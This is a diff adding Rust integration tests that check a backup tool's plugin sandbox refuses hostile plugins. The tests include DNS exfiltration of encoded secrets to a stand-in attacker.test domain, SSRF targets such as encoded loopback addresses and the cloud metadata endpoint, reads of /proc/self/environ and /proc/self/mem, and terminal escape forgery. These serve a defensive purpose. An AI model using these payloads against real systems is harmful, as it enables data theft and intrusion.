@@ -7,8 +7,22 @@ mod support;
 use serde_json::json;
 use std::fs;
 use std::path::Path;
+use std::process::Command;
 use std::time::{Duration, Instant};
 use support::*;
+
+/// The hostile source written against the raw WIT, without the SDK (tests/fixture-raw).
+fn raw(id: &str, mode: &str, target: &str, grants: serde_json::Value) -> serde_json::Value {
+    json!({
+        "id": id,
+        "type": "raw-hostile",
+        "plugin": fixture("backups_test_raw_fixture.wasm"),
+        "mode": mode,
+        "target": target,
+        "passphrase": "pw-pw-pw",
+        "grants": grants
+    })
+}
 
 fn hostile(mode: &str, granted: &Path) -> serde_json::Value {
     json!({
@@ -46,6 +60,17 @@ impl Outcome {
 
 /// Runs `hostiles` beside one good folder source; returns the report.
 fn run_with(work: &Path, hostiles: Vec<serde_json::Value>, limits: serde_json::Value) -> Outcome {
+    run_wrapped(work, hostiles, limits, None)
+}
+
+/// [`run_with`], with the run's `/etc/resolv.conf` replaced by `resolv` (in a private
+/// mount namespace: the machine's own resolver setting is not touched).
+fn run_wrapped(
+    work: &Path,
+    hostiles: Vec<serde_json::Value>,
+    limits: serde_json::Value,
+    resolv: Option<&Path>,
+) -> Outcome {
     let (src, dest, granted) = (work.join("src"), work.join("dest"), work.join("granted"));
     fs::create_dir_all(&src).unwrap();
     fs::write(src.join("good"), b"good data").unwrap();
@@ -64,7 +89,24 @@ fn run_with(work: &Path, hostiles: Vec<serde_json::Value>, limits: serde_json::V
             "destinations": [{"id": "disk", "type": "local", "path": dest}]
         }),
     );
-    let run = run(backups()
+    let mut cmd = backups();
+    if let Some(resolv) = resolv {
+        let binary = cmd.get_program().to_owned();
+        let mut wrapped = Command::new("unshare");
+        wrapped
+            .args(["--mount", "sh", "-c"])
+            .arg(r#"mount --bind "$0" /etc/resolv.conf && exec "$@""#)
+            .arg(resolv)
+            .arg(binary);
+        for (k, v) in cmd.get_envs() {
+            match v {
+                Some(v) => wrapped.env(k, v),
+                None => wrapped.env_remove(k),
+            };
+        }
+        cmd = wrapped;
+    }
+    let run = run(cmd
         .env("BACKUPS_TEST_HOST_SECRET", "host-secret-value")
         .arg("run")
         .arg("--json")
@@ -391,7 +433,7 @@ fn http_to_peers_not_granted_is_refused_through_redirects_and_aliases() {
     assert_good_source_stored_alone(&o);
     assert!(
         o.run.stderr.contains(&format!(
-            "denied: {own_name} resolves to the internal address"
+            "denied: {own_name}:{forbidden} leads to the internal address"
         )),
         "{}",
         o.run.stderr
@@ -519,4 +561,438 @@ fn malformed_dump_info_is_refused_or_cut_down() {
         "report of {} bytes",
         o.run.stdout.len()
     );
+}
+
+/// A DNS server on a loopback address of its own that records every name it is asked
+/// about (tests/servers/dns_recorder.py); answers names under `granted.test`.
+struct Dns {
+    _server: Server,
+    log: std::path::PathBuf,
+    resolv: std::path::PathBuf,
+}
+
+impl Dns {
+    fn start(dir: &Path) -> Dns {
+        // An address of its own in 127/8, so that no other resolver is in the way.
+        let address = format!("127.0.{}.{}", 50 + std::process::id() % 200, 53);
+        let log = dir.join("dns.log");
+        let child = Command::new("python3")
+            .arg(concat!(
+                env!("CARGO_MANIFEST_DIR"),
+                "/../tests/servers/dns_recorder.py"
+            ))
+            .args([&address, log.to_str().unwrap(), "granted.test"])
+            .spawn()
+            .expect("python3 runs the DNS recorder");
+        let server = Server { child, port: 53 };
+        let deadline = Instant::now() + Duration::from_secs(20);
+        while !fs::read_to_string(&log)
+            .unwrap_or_default()
+            .contains("#ready")
+        {
+            assert!(
+                Instant::now() < deadline,
+                "the DNS recorder did not start on {address}:53 (it needs root)"
+            );
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        let resolv = dir.join("resolv.conf");
+        fs::write(
+            &resolv,
+            format!("nameserver {address}\noptions attempts:1 timeout:2\n"),
+        )
+        .unwrap();
+        Dns {
+            _server: server,
+            log,
+            resolv,
+        }
+    }
+
+    fn asked(&self) -> String {
+        fs::read_to_string(&self.log).unwrap()
+    }
+}
+
+#[test]
+fn name_lookups_reach_the_resolver_only_for_names_a_grant_names() {
+    let work = tempfile::tempdir().unwrap();
+    let granted = work.path().join("granted");
+    fs::create_dir_all(&granted).unwrap();
+    let dns = Dns::start(work.path());
+    let lookup = |id: &str, names: &str, net: serde_json::Value| {
+        let mut h = hostile("lookup", &granted);
+        h["id"] = json!(id);
+        h["target"] = json!(names);
+        h["grants"]["net"] = net;
+        h
+    };
+    let o = run_wrapped(
+        work.path(),
+        vec![
+            // Positive controls: the resolver is reached for granted names.
+            lookup("exact", "api.granted.test", json!(["api.granted.test:443"])),
+            lookup("suffix", "eu.granted.test", json!(["*.granted.test"])),
+            // The exfiltration: a secret as a DNS label, with an unrelated grant.
+            lookup(
+                "exfil",
+                "c2VjcmV0LXZhbHVl.attacker.test",
+                json!(["api.granted.test:443"]),
+            ),
+            lookup(
+                "exfil-suffix",
+                "x.granted.test.attacker.test",
+                json!(["*.granted.test"]),
+            ),
+            raw(
+                "raw-exfil",
+                "lookup",
+                "cmF3LXNlY3JldA.attacker.test",
+                json!({"net": ["api.granted.test:443"]}),
+            ),
+            raw(
+                "raw-control",
+                "lookup",
+                "raw.granted.test",
+                json!({"net": ["raw.granted.test:443"]}),
+            ),
+        ],
+        json!({}),
+        Some(&dns.resolv),
+    );
+    assert_good_source_stored_alone_besides(&o, &["exact", "suffix", "raw-control"]);
+    let asked = dns.asked();
+    assert!(asked.contains("raw.granted.test"), "control: {asked}");
+    assert!(asked.contains("api.granted.test"), "control: {asked}");
+    assert!(asked.contains("eu.granted.test"), "control: {asked}");
+    assert!(
+        !asked.contains("attacker"),
+        "no query for an ungranted name reached the DNS server: {asked}"
+    );
+    for id in ["exfil", "exfil-suffix", "raw-exfil"] {
+        let e = o.error(id);
+        assert!(e.contains("refused") || e.contains("denied"), "{id}: {e}");
+    }
+    assert!(
+        o.run
+            .stderr
+            .contains("denied: name lookup of c2VjcmV0LXZhbHVl.attacker.test"),
+        "{}",
+        o.run.stderr
+    );
+}
+
+#[test]
+fn a_wildcard_never_reaches_loopback_link_local_or_unspecified_addresses() {
+    let work = tempfile::tempdir().unwrap();
+    let granted = work.path().join("granted");
+    fs::create_dir_all(&granted).unwrap();
+    let (port, hits) =
+        http_server("HTTP/1.1 200 OK\r\ncontent-length: 6\r\nconnection: close\r\n\r\nsecret");
+    let attack = |id: &str, mode: &str, target: String, net: serde_json::Value| {
+        let mut h = hostile(mode, &granted);
+        h["id"] = json!(id);
+        h["target"] = json!(target);
+        h["grants"]["net"] = net;
+        h
+    };
+    let mut hostiles = Vec::new();
+    for (id, url) in [
+        ("v4", format!("http://127.0.0.1:{port}/")),
+        ("v4-short", format!("http://127.1:{port}/")),
+        ("v4-decimal", format!("http://2130706433:{port}/")),
+        ("name", format!("http://localhost:{port}/")),
+        ("mapped", format!("http://[::ffff:127.0.0.1]:{port}/")),
+        ("unspecified", format!("http://0.0.0.0:{port}/")),
+        (
+            "metadata",
+            "http://169.254.169.254/latest/meta-data/".to_string(),
+        ),
+        (
+            "metadata-mapped",
+            "http://[::ffff:169.254.169.254]/".to_string(),
+        ),
+    ] {
+        hostiles.push(attack(id, "http", url, json!(["*"])));
+    }
+    hostiles.push(attack(
+        "socket",
+        "connect",
+        format!("127.0.0.1:{port}"),
+        json!(["*"]),
+    ));
+    for (id, authority) in [
+        ("raw-v4", format!("127.0.0.1:{port}")),
+        ("raw-mapped", format!("[::ffff:127.0.0.1]:{port}")),
+        ("raw-name", format!("localhost:{port}")),
+        ("raw-metadata", "169.254.169.254".to_string()),
+    ] {
+        hostiles.push(raw(id, "http", &authority, json!({"net": ["*"]})));
+    }
+    hostiles.push(attack(
+        "socket-any-port",
+        "connect",
+        format!("127.0.0.1:{port}"),
+        json!(["*:443"]),
+    ));
+    // The control: a grant naming the address exactly reaches it.
+    hostiles.push(attack(
+        "exact",
+        "http",
+        format!("http://127.0.0.1:{port}/"),
+        json!([format!("127.0.0.1:{port}")]),
+    ));
+    let o = run_with(work.path(), hostiles, json!({}));
+    for id in [
+        "v4",
+        "v4-short",
+        "v4-decimal",
+        "name",
+        "mapped",
+        "unspecified",
+        "metadata",
+        "metadata-mapped",
+        "socket",
+        "socket-any-port",
+        "raw-v4",
+        "raw-mapped",
+        "raw-name",
+        "raw-metadata",
+    ] {
+        let e = o.error(id);
+        assert!(e.contains("refused") || e.contains("denied"), "{id}: {e}");
+    }
+    // The exact grant's one request is the only one that reached the server.
+    assert_eq!(
+        hits.load(std::sync::atomic::Ordering::SeqCst),
+        1,
+        "{}",
+        o.run.stderr
+    );
+    assert_eq!(o.source("exact")["ok"], true, "{}", o.run.stderr);
+    assert!(
+        o.run.stderr.contains("leads to the internal address"),
+        "{}",
+        o.run.stderr
+    );
+}
+
+/// Like [`assert_good_source_stored_alone`], where the sources `also` are expected to
+/// succeed (positive controls) and every other one to fail.
+fn assert_good_source_stored_alone_besides(o: &Outcome, also: &[&str]) {
+    assert_eq!(o.run.code, 1, "failed sources make the run fail");
+    assert_eq!(o.source("good")["ok"], true);
+    for id in also {
+        assert_eq!(o.source(id)["ok"], true, "{id}: {}", o.run.stderr);
+    }
+}
+
+#[test]
+fn private_files_are_bounded_per_plugin_in_count_and_bytes() {
+    let work = tempfile::tempdir().unwrap();
+    let granted = work.path().join("granted");
+    fs::create_dir_all(&granted).unwrap();
+    let mut by_count = hostile("private-file-flood", &granted);
+    by_count["id"] = json!("by-count");
+    by_count["limits"] = json!({"private_files": 3});
+    let by_bytes = hostile("private-file-flood", &granted);
+    let o = run_with(work.path(), vec![by_count, by_bytes], json!({}));
+    assert_good_source_stored_alone(&o);
+    let e = o.error("by-count");
+    assert!(e.contains("limits.private_files"), "{e}");
+    let e = o.error("private-file-flood");
+    assert!(e.contains("limits.private_file_kib"), "{e}");
+    // Nothing of either is left in the tmpdir.
+    assert_eq!(leftovers(&work.path().join("tmp")), Vec::<String>::new());
+}
+
+#[test]
+fn no_grant_reaches_proc_devices_or_the_hosts_own_directories() {
+    let work = tempfile::tempdir().unwrap();
+    let w = work.path();
+    let granted = w.join("granted");
+    fs::create_dir_all(&granted).unwrap();
+    let everything = json!({"read": ["/"]});
+    // `/` holds the job file: a third-party plugin gets that only when the entry says so.
+    let risky = |mut entry: serde_json::Value| {
+        entry["allow_risky_grants"] = json!(true);
+        entry
+    };
+    let o = run_with(
+        w,
+        vec![
+            // The host's environment and memory, through a whole-system grant.
+            risky(raw(
+                "environ",
+                "read",
+                "proc/self/environ",
+                everything.clone(),
+            )),
+            risky(raw("mem", "read", "proc/self/mem", everything.clone())),
+            risky(raw(
+                "sys",
+                "read",
+                "sys/kernel/hostname",
+                everything.clone(),
+            )),
+            // A device read raw is every file on it.
+            risky(raw("device", "read", "dev/zero", everything.clone())),
+            // A grant that resolves onto procfs is refused outright.
+            raw(
+                "proc-grant",
+                "read",
+                "self/environ",
+                json!({"read": ["/proc"]}),
+            ),
+            // The control: an ordinary file through the same grant.
+            risky(raw("control", "read", "etc/hostname", everything)),
+        ],
+        json!({}),
+    );
+    assert_eq!(o.run.code, 1);
+    assert_eq!(o.source("good")["ok"], true);
+    assert_eq!(o.source("control")["ok"], true, "{}", o.run.stderr);
+    for id in ["environ", "mem", "sys", "device"] {
+        let e = o.error(id);
+        assert!(e.contains("open-at"), "{id}: {e}");
+    }
+    assert!(
+        o.error("proc-grant").contains("pseudo-filesystem"),
+        "{}",
+        o.run.stderr
+    );
+    assert!(!o.run.all().contains("host-secret-value"));
+    assert!(
+        o.run
+            .stderr
+            .contains("denied: proc/self/environ: on a pseudo-filesystem (proc)"),
+        "{}",
+        o.run.stderr
+    );
+}
+
+#[test]
+fn a_folder_that_contains_the_tmpdir_skips_it_and_says_so() {
+    let work = tempfile::tempdir().unwrap();
+    let w = work.path();
+    fs::create_dir_all(w.join("data")).unwrap();
+    fs::write(w.join("data/kept.txt"), "kept").unwrap();
+    // The job's tmpdir is inside the folder backed up: its run directory holds the
+    // artifact being written and other plugins' private files.
+    let job = job_to_local_disk(
+        w,
+        vec![
+            json!({"id": "all", "type": "folder", "path": w, "passphrase": "pw-pw-pw",
+                    "excludes": ["dest"]}),
+        ],
+    );
+    let r = run(backups().arg("run").arg("--json").arg(&job));
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let report: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
+    let warnings = report["sources"][0]["warnings"].to_string();
+    assert!(
+        warnings.contains("the host lets no plugin read them"),
+        "{warnings}"
+    );
+    let into = w.join("restored");
+    untar_gz(
+        &decrypt_artifact(&w.join("dest"), "all", "tar", "pw-pw-pw"),
+        &into,
+    );
+    let names = files_under(&into).join("\n");
+    assert!(names.contains("data/kept.txt"), "{names}");
+    assert!(
+        !names.contains("/run-"),
+        "the run directory is not archived: {names}"
+    );
+}
+
+#[test]
+fn a_file_grant_is_the_file_not_its_directory() {
+    let work = tempfile::tempdir().unwrap();
+    let w = work.path();
+    let secrets = w.join("secrets");
+    fs::create_dir_all(&secrets).unwrap();
+    fs::write(secrets.join("granted.txt"), "granted").unwrap();
+    fs::write(secrets.join("beside.txt"), "not granted").unwrap();
+    let file = secrets.join("granted.txt");
+    let o = run_with(
+        w,
+        vec![
+            raw("sibling", "read", "beside.txt", json!({"read": [file]})),
+            raw("the-file", "read", "granted.txt", json!({"read": [file]})),
+        ],
+        json!({}),
+    );
+    assert_eq!(o.source("the-file")["ok"], true, "{}", o.run.stderr);
+    let e = o.error("sibling");
+    assert!(e.contains("open-at beside.txt"), "{e}");
+    // A folder source of one file archives that file alone.
+    let job = job_to_local_disk(
+        &w.join("one"),
+        vec![json!({"id": "one", "type": "folder", "path": file, "passphrase": "pw-pw-pw"})],
+    );
+    let r = run(backups().arg("run").arg(&job));
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let into = w.join("restored");
+    untar_gz(
+        &decrypt_artifact(&w.join("one/dest"), "one", "tar", "pw-pw-pw"),
+        &into,
+    );
+    let names = files_under(&into);
+    assert_eq!(names.len(), 1, "{names:?}");
+    assert!(names[0].ends_with("secrets/granted.txt"), "{names:?}");
+    // And check says what the grant opens.
+    let c = run(backups().arg("check").arg(&job));
+    assert!(
+        c.stdout.contains("the plugin sees it alone"),
+        "{}",
+        c.stdout
+    );
+}
+
+#[test]
+fn a_third_party_grant_over_the_job_file_or_a_secret_file_is_refused_unless_allowed() {
+    let work = tempfile::tempdir().unwrap();
+    let w = work.path();
+    let secret = w.join("passphrase.txt");
+    fs::write(&secret, "pw-from-file").unwrap();
+    let mut entry = raw("nosy", "read", "job.json", json!({"read": [w]}));
+    entry["passphrase"] = json!({"file": secret});
+    let job = job_to_local_disk(w, vec![entry.clone()]);
+    let c = run(backups().arg("check").arg(&job));
+    assert_ne!(c.code, 0, "{}", c.all());
+    assert!(c.all().contains("allow_risky_grants"), "{}", c.all());
+    entry["allow_risky_grants"] = json!(true);
+    let job = job_to_local_disk(w, vec![entry]);
+    let c = run(backups().arg("check").arg(&job));
+    assert!(
+        c.stdout.contains("RISK:") && c.stdout.contains("holds this job's secrets"),
+        "{}",
+        c.stdout
+    );
+}
+
+#[test]
+fn a_plugins_words_reach_no_terminal_raw() {
+    let work = tempfile::tempdir().unwrap();
+    let granted = work.path().join("granted");
+    fs::create_dir_all(&granted).unwrap();
+    let o = run_with(work.path(), vec![hostile("forge", &granted)], json!({}));
+    assert_good_source_stored_alone(&o);
+    let e = o.error("forge");
+    assert!(e.contains("\\n") && e.contains("\\u{1b}"), "{e}");
+    for (what, text) in [("stdout", &o.run.stdout), ("stderr", &o.run.stderr)] {
+        assert!(!text.contains('\u{1b}'), "{what} holds a raw ESC: {text}");
+        assert!(
+            !text.contains('\u{202e}'),
+            "{what} holds a raw bidi override"
+        );
+        assert!(
+            !text
+                .lines()
+                .any(|l| l.trim_start().starts_with("OK: every source reached")),
+            "{what} has a forged line: {text}"
+        );
+    }
 }
